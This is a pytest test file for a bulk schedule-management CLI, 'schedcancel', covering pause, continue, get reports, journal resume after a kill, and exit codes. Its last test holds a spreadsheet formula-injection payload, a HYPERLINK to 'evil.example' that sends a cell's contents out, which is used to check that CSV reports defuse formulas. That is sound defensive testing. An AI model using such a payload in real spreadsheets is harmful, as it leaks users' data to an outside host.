"""``schedcancel pause``, ``continue --at`` and ``get --report``: one bulk run, four operations."""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from schedcancel import BulkOutcome, BulkProgress, OutcomeKind
from schedcancel._bulk.journal import read_journal
from schedcancel.cli import RunReport, build_parser, outcome_text
from schedcancel.cli._common import _Streams
from schedcancel.cli._run import _write_status_report
from schedcancel.cli._status_report import REPORT_COLUMNS, write_report
from schedcancel.testing import Faults, ServerLimits

from support.cli import (
    FAST,
    ServerThread,
    assert_no_secrets,
    cli_env,
    kill_9_when,
    make_ids,
    make_settings,
    run_cli,
    schedcancel_argv,
    subprocess_env,
)

AT = "2027-01-05T10:00:00+01:00"


def _journal_lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_help_lists_every_bulk_command_and_the_mock_server_serves_six() -> None:
    """The top-level help names the four bulk commands; mock-server's no longer says cancel only."""
    text = build_parser().format_help()
    for command in ("cancel", "pause", "continue", "get", "update", "demo", "mock-server"):
        assert command in text
    out = io.StringIO()
    code = _run_help(["mock-server", "--help"], out)
    assert code == 0
    assert "six schedule endpoints" in out.getvalue()
    assert "cancel endpoint emulated" not in out.getvalue()


def _run_help(argv: list[str], out: io.StringIO) -> int:
    from schedcancel.cli import main  # noqa: PLC0415 - the same entry point as run_cli

    return main(argv, stdout=out, stderr=io.StringIO(), environ={})


@pytest.mark.parametrize("command", ["cancel", "pause", "continue", "get", "update"])
def test_every_bulk_command_has_the_same_shared_flags(command: str) -> None:
    """Input, journal, budget flags and --redis: one definition, every subcommand."""
    out = io.StringIO()
    assert _run_help([command, "--help"], out) == 0
    text = out.getvalue()
    for flag in (
        "--from",
        "--journal",
        "--retry-failed",
        "--concurrency",
        "--priority",
        "--total",
        "--per-schedule",
        "--window",
        "--guard",
        "--mode",
        "--interactive-reserve",
        "--redis",
        "--json",
        "--no-progress",
        "--metrics-port",
        "--dry-run",
    ):
        assert flag in text, (command, flag)
    assert ("--at" in text) is (command == "continue")
    assert ("--report" in text) is (command in {"get", "update"})
    assert ("--skip-invalid" in text) is (command == "update")


def test_pause_pauses_active_ones_and_knows_the_paused(
    serve: Callable[..., ServerThread], tmp_path: Path
) -> None:
    """Exit 0: every id is paused, by this run or before; the journal names the operation."""
    server = serve(active=["SC-A1", "SC-A2"], paused=["SC-P1"])
    journal = tmp_path / "pause.jsonl"
    result = run_cli(
        ["pause", "--journal", str(journal), *FAST, "SC-A1", "SC-A2", "SC-P1"],
        cli_env(server.base_url),
    )
    assert result.code == 0, result.stderr
    lines = dict(line.split("\t", 1) for line in result.lines())
    assert lines["SC-A1"] == "paused\tACTIVE->PAUSED"
    assert lines["SC-P1"] == "already_paused\tPAUSED->PAUSED"
    assert "exit 0: every id is paused" in result.stderr
    assert "already paused" in result.stderr
    assert "cancelled" not in result.stderr  # the summary shows pause's kinds only
    assert _journal_lines(journal)[0]["operation"] == "pause"
    assert server.server.status_of("SC-A1") == "PAUSED"


def test_pausing_a_cancelled_schedule_is_a_final_failure_exit_1(
    serve: Callable[..., ServerThread], tmp_path: Path
) -> None:
    """7070 in another state than the target: failed, final; a rerun does not send it again."""
    server = serve(cancelled=["SC-C1"])
    journal = tmp_path / "pause.jsonl"
    argv = ["pause", "--journal", str(journal), "--json", *FAST, "SC-C1"]
    first = run_cli(argv, cli_env(server.base_url))
    assert first.code == 1, first.stderr
    record = json.loads(first.lines()[0])
    assert record["outcome"] == "failed"
    assert record["error_code"] == 7070
    summary = json.loads(first.lines()[-1])["summary"]
    assert summary["operation"] == "pause"
    assert summary["counts"] == {
        "paused": 0,
        "already_paused": 0,
        "failed": 1,
        "invalid": 0,
        "error": 0,
    }
    sent = len(server.server.recorder)
    second = run_cli(argv, cli_env(server.base_url))
    assert second.code == 1
    assert len(server.server.recorder) == sent


def test_continue_sends_at_and_makes_paused_ones_active(
    serve: Callable[..., ServerThread], tmp_path: Path
) -> None:
    """Every id continued with the same next charge, sent in UTC; the journal records it."""
    server = serve(paused=["SC-P1", "SC-P2"], active=["SC-A1"])
    journal = tmp_path / "continue.jsonl"
    result = run_cli(
        ["continue", "--at", AT, "--journal", str(journal), *FAST, "SC-P1", "SC-P2", "SC-A1"],
        cli_env(server.base_url),
    )
    assert result.code == 0, result.stderr
    lines = dict(line.split("\t", 1) for line in result.lines())
    assert lines["SC-P1"] == "continued\tPAUSED->ACTIVE"
    assert lines["SC-A1"] == "already_active\tACTIVE->ACTIVE"
    assert "exit 0: every id is active" in result.stderr
    start = _journal_lines(journal)[0]
    assert start["operation"] == "continue"
    assert start["continue_at"] == "2027-01-05T09:00:00+00:00"
    schedule = server.server.schedule("SC-P1")
    assert schedule is not None
    assert schedule.scheduled_at == datetime(2027, 1, 5, 9, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["continue", "SC-1"], "--at"),
        (["continue", "--at", "2027-01-05T10:00:00", "SC-1"], "has no UTC offset"),
        (["continue", "--at", "next tuesday", "SC-1"], "not an ISO 8601 date-time"),
        (["continue", "--at", "2027-01-05", "SC-1"], "has no UTC offset"),
        (
            ["continue", "--at", "0001-01-01T00:30:00+01:00", "SC-1"],
            "out of range once converted to UTC",
        ),
        (["continue", "--at", "2027-01-05T10:00:00-01:00", "SC-1"], None),  # accepted: sent in UTC
        (["pause", "--at", AT, "SC-1"], "unrecognized arguments"),
        (["get", "--format", "xml", "SC-1"], "invalid choice"),
    ],
)
def test_continue_at_is_checked_before_any_io(
    serve: Callable[..., ServerThread], argv: list[str], message: str | None
) -> None:
    """A missing, naive or unreadable --at is a usage error (exit 2); nothing is sent."""
    server = serve(paused=["SC-1"])
    result = run_cli([*argv, *FAST], cli_env(server.base_url))
    if message is None:
        assert result.code == 0, result.stderr
        assert len(server.server.recorder) == 1
        return
    assert result.code == 2
    assert message in result.stderr
    assert len(server.server.recorder) == 0


def test_a_journal_of_another_operation_is_refused_exit_2(
    serve: Callable[..., ServerThread], tmp_path: Path
) -> None:
    """A cancel journal given to pause: a usage error naming both, nothing sent, file unchanged."""
    server = serve(active=["SC-1", "SC-2"])
    journal = tmp_path / "run.jsonl"
    assert (
        run_cli(["cancel", "--journal", str(journal), *FAST, "SC-1"], cli_env(server.base_url)).code
        == 0
    )
    before = journal.read_bytes()
    sent = len(server.server.recorder)
    result = run_cli(["pause", "--journal", str(journal), *FAST, "SC-2"], cli_env(server.base_url))
    assert result.code == 2
    assert "journal of a cancel job, not of pause" in result.stderr
    assert len(server.server.recorder) == sent
    assert journal.read_bytes() == before


def _seed_for_get(serve: Callable[..., ServerThread]) -> ServerThread:
    return serve(active=["SC-A1", "SC-A2", "SC-A3"], paused=["SC-P1"], cancelled=["SC-C1"])


GET_IDS = ["SC-A1", "SC-P1", "SC-C1", "SC-A2", "SC-GONE", "bad id!", "SC-A3", "SC-A1"]


def _read_report(path: Path, fmt: str) -> list[dict[str, Any]]:
    text = path.read_text(encoding="utf-8")
    if fmt == "jsonl":
        rows = [json.loads(line) for line in text.splitlines()]
        assert all(list(row) == list(REPORT_COLUMNS) for row in rows)
        return rows
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == list(REPORT_COLUMNS)
    return list(reader)


@pytest.mark.parametrize(
    ("name", "flags", "fmt"),
    [
        ("status.csv", [], "csv"),
        ("status.jsonl", [], "jsonl"),
        ("status.txt", [], "jsonl"),
        ("status.out", ["--format", "csv"], "csv"),
        ("status.CSV", ["--format", "jsonl"], "jsonl"),
    ],
)
def test_get_report_has_one_row_per_id_in_either_format(
    serve: Callable[..., ServerThread], tmp_path: Path, name: str, flags: list[str], fmt: str
) -> None:
    """Rows parse back; statuses, the next charge, the registration; a summary by status."""
    server = _seed_for_get(serve)
    report = tmp_path / name
    result = run_cli(
        ["get", "--report", str(report), *flags, "--json", *FAST, *GET_IDS],
        cli_env(server.base_url),
    )
    assert result.code == 1, result.stderr  # SC-GONE (7040) and "bad id!" are failures
    rows = {row["id"]: row for row in _read_report(report, fmt)}
    assert sorted(rows) == sorted(set(GET_IDS))
    yes, no = (True, False) if fmt == "jsonl" else ("true", "false")
    none: Any = None if fmt == "jsonl" else ""
    active = rows["SC-A1"]
    assert active["success"] == yes
    assert active["status"] == "ACTIVE"
    assert active["registration_uuid"] == "RG-SC-A1"
    assert active["scheduled_at"].startswith(str(server.server.wall_clock_at_start.year))
    assert active["error"] == none
    assert rows["SC-P1"]["status"] == "PAUSED"
    assert rows["SC-C1"]["status"] == "CANCELLED"
    gone = rows["SC-GONE"]
    assert gone["success"] == no
    assert str(gone["error_code"]) == "7040"
    assert gone["error"]
    assert rows["bad id!"]["success"] == no
    assert "by status: ACTIVE 3, CANCELLED 1, PAUSED 1, failed 1, invalid 1" in result.stderr
    assert f"report: {report}" in result.stderr
    summary = json.loads(result.lines()[-1])["summary"]
    assert summary["statuses"] == {
        "ACTIVE": 3,
        "PAUSED": 1,
        "CANCELLED": 1,
        "failed": 1,
        "invalid": 1,
    }
    assert summary["report"] == str(report)
    # The default journal sits beside the report, and a run again sends nothing new.
    assert Path(f"{report}.journal").exists()
    assert _journal_lines(Path(f"{report}.journal"))[0]["operation"] == "get"
    sent = len(server.server.recorder)
    again = run_cli(
        ["get", "--report", str(report), *flags, *FAST, *GET_IDS], cli_env(server.base_url)
    )
    assert again.code == 1
    assert len(server.server.recorder) == sent
    assert sorted(row["id"] for row in _read_report(report, fmt)) == sorted(set(GET_IDS))
    assert_no_secrets(result.stdout, result.stderr, report.read_text(encoding="utf-8"))


def test_get_without_a_report_prints_statuses_per_id(serve: Callable[..., ServerThread]) -> None:
    """Plain get: one line per id with its status and next charge, and the summary by status."""
    server = _seed_for_get(serve)
    result = run_cli(["get", *FAST, "SC-A1", "SC-P1"], cli_env(server.base_url))
    assert result.code == 0, result.stderr
    lines = dict(line.split("\t", 1) for line in result.lines())
    assert lines["SC-P1"].startswith("read\tPAUSED next ")
    assert "by status: ACTIVE 1, PAUSED 1" in result.stderr
    assert "exit 0: every id is read" in result.stderr


def test_a_killed_report_resumes_complete_and_without_duplicates(
    serve: Callable[..., ServerThread], tmp_path: Path
) -> None:
    """An error line left by an interrupted run is replaced by the id's answer, once."""
    server = _seed_for_get(serve)
    report = tmp_path / "status.csv"
    journal = tmp_path / "status.csv.journal"
    journal.write_text(
        '{"run":"start","operation":"get","api_key":"cli-***"}\n'
        '{"id":"SC-A1","outcome":"read","new_status":"ACTIVE","registration_uuid":"RG-SC-A1"}\n'
        '{"id":"SC-P1","outcome":"error","error_type":"TransportError","error":"reset"}\n'
        '{"id":"SC-A2","outcome":"rea',  # torn: the run was killed writing it
        encoding="utf-8",
    )
    result = run_cli(["get", "--report", str(report), *FAST, *GET_IDS], cli_env(server.base_url))
    assert result.code == 1, result.stderr
    sent = sorted(server.sent_ids())
    assert sent == ["SC-A2", "SC-A3", "SC-C1", "SC-GONE", "SC-P1"]
    rows = _read_report(report, "csv")
    assert [row["id"] for row in rows].count("SC-P1") == 1
    assert sorted(row["id"] for row in rows) == sorted(set(GET_IDS))
    assert {row["id"]: row["status"] for row in rows}["SC-P1"] == "PAUSED"


def test_an_unwritable_report_is_incomplete_exit_3(
    serve: Callable[..., ServerThread], tmp_path: Path
) -> None:
    """The journal keeps every answer but the report cannot be written: exit 3."""
    server = _seed_for_get(serve)
    report = tmp_path / "status.csv"
    report.mkdir()  # a directory where the file should go
    journal = tmp_path / "get.jsonl"
    argv = ["get", "--report", str(report), "--journal", str(journal), *FAST, "SC-A1"]
    result = run_cli(argv, cli_env(server.base_url))
    assert result.code == 3
    assert "the report was not written" in result.stderr
    assert [o.schedule_id for o in read_journal(journal)] == ["SC-A1"]
    assert not list(tmp_path.glob(".status.csv.*"))  # no temporary file left behind


def test_a_report_in_a_missing_directory_is_a_usage_error(
    serve: Callable[..., ServerThread], tmp_path: Path
) -> None:
    """Checked before any I/O: exit 2, nothing sent."""
    server = _seed_for_get(serve)
    result = run_cli(
        ["get", "--report", str(tmp_path / "no" / "r.csv"), *FAST, "SC-A1"],
        cli_env(server.base_url),
    )
    assert result.code == 2
    assert "no such directory" in result.stderr
    assert len(server.server.recorder) == 0


@pytest.mark.parametrize(
    ("command", "seeded", "target"),
    [
        (["cancel"], "active", "CANCELLED"),
        (["pause"], "active", "PAUSED"),
        (["continue", "--at", AT], "paused", "ACTIVE"),
        (["get", "--report", "REPORT"], "active", "ACTIVE"),
    ],
)
def test_kill_and_resume_sends_nothing_final_twice(
    serve: Callable[..., ServerThread],
    tmp_path: Path,
    command: list[str],
    seeded: str,
    target: str,
) -> None:
    """SIGKILL mid-run, then a re-run on the same journal: one final line per id, no re-sends.

    The server's recorder shows that no id final in the journal when the
    process died was sent again by the second run. For get the report is
    written by the second run: one row per id, all read.
    """
    ids = make_ids(300, prefix="KILL-")
    server = serve(
        **{seeded: ids},
        limits=ServerLimits(total=100_000, per_schedule=10, window=1.0),
        faults=Faults(response_latency=(0.01, 0.04), seed=7),
    )
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text("\n".join(ids) + "\n", encoding="utf-8")
    journal = tmp_path / "run.jsonl"
    report = tmp_path / "status.csv"
    command = [str(report) if part == "REPORT" else part for part in command]
    argv = schedcancel_argv(
        *command,
        *("--from", str(ids_file), "--journal", str(journal), "--concurrency", "8"),
        *("-q", "--total", "100000", "--window", "1", "--guard", "0.05"),
    )
    env = subprocess_env(server.base_url)
    assert kill_9_when(argv, env, journal, b'"outcome"', 80) == -signal.SIGKILL
    final_at_kill = {o.schedule_id for o in read_journal(journal) if o.final}
    assert 80 <= len(final_at_kill) < 300, "the kill came too late to test anything"
    assert not report.exists()
    resumed_from = len(server.server.recorder)

    second = subprocess.run(  # noqa: S603 - our own interpreter and module
        argv, capture_output=True, text=True, env=env, timeout=120, check=False
    )
    assert second.returncode == 0, second.stderr
    assert not set(server.sent_ids(resumed_from)) & final_at_kill
    finals: dict[str, int] = {}
    for outcome in read_journal(journal):
        if outcome.final:
            finals[outcome.schedule_id] = finals.get(outcome.schedule_id, 0) + 1
    assert sorted(finals) == sorted(ids)
    assert set(finals.values()) == {1}
    assert all(server.server.status_of(i) == target for i in ids)
    if command[0] == "get":
        rows = _read_report(report, "csv")
        assert sorted(row["id"] for row in rows) == sorted(ids)
        assert {row["status"] for row in rows} == {"ACTIVE"}


def test_a_read_without_a_next_charge_shows_its_status_only() -> None:
    """The per-id line of a get answer without scheduledAt (malformed, say)."""
    outcome = BulkOutcome(schedule_id="SC-1", kind=OutcomeKind.READ, new_status="PAUSED")
    assert outcome_text(outcome) == "SC-1\tread\tPAUSED"


def test_an_unwritable_report_keeps_the_failure_that_stopped_the_run(tmp_path: Path) -> None:
    """The first failure stays the one reported; the report's is only printed."""
    journal = tmp_path / "j.jsonl"
    journal.write_text('{"id":"SC-1","outcome":"read","new_status":"ACTIVE"}\n', encoding="utf-8")
    report_dir = tmp_path / "r.csv"
    report_dir.mkdir()
    first = RuntimeError("the job stopped")
    progress = BulkProgress(
        total=1,
        read=1,
        done=1,
        counts={},
        skipped=0,
        journal_counts={},
        duplicates=0,
        withdrawn=0,
        in_flight=0,
        rate_limited=0,
        elapsed=1.0,
        rate=1.0,
        eta=0.0,
        stopping=True,
        finished=True,
    )
    report = RunReport(progress=progress, failure=first, interrupted=False)
    settings = make_settings("http://127.0.0.1:1", journal=journal, report=report_dir)
    err = io.StringIO()
    _write_status_report(report, settings, _Streams(io.StringIO(), io.StringIO(), err))
    assert report.failure is first
    assert "the report was not written" in err.getvalue()
    assert report.exit_code == 3


def test_csv_report_defuses_formulas(tmp_path: Path) -> None:
    """Text a spreadsheet would run as a formula is written as text; JSON Lines keeps it."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    outcomes = [
        BulkOutcome(
            schedule_id="SC-1",
            kind=OutcomeKind.READ,
            new_status="ACTIVE",
            merchant_meta_data=hostile,
        ),
        BulkOutcome(schedule_id="SC-2", kind=OutcomeKind.FAILED, error_code=-5, error="@SUM(1)"),
    ]
    csv_path, jsonl_path = tmp_path / "r.csv", tmp_path / "r.jsonl"
    write_report(csv_path, "csv", outcomes)
    write_report(jsonl_path, "jsonl", outcomes)
    rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
    assert rows[0]["merchant_meta_data"] == "'" + hostile
    assert rows[1]["error"] == "'@SUM(1)"
    assert rows[1]["error_code"] == "-5"  # a number is no formula
    assert rows[0]["id"] == "SC-1"
    lines = [json.loads(line) for line in jsonl_path.read_text(encoding="utf-8").splitlines()]
    assert lines[0]["merchant_meta_data"] == hostile
